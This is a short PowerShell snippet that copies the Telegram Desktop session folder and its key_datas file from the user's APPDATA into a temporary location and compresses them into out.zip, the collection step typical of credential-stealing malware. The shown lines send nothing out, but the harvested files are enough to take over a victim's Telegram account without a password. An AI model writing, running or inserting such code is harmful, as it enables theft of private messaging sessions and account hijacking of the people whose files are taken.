$src = "$env:APPDATA\Telegram Desktop\tdata"
Copy-Item "$src\D877F783D5D3EF8C" -Destination $tmp -Recurse
Copy-Item "$src\key_datas" -Destination $tmp
Compress-Archive $tmp out.zip
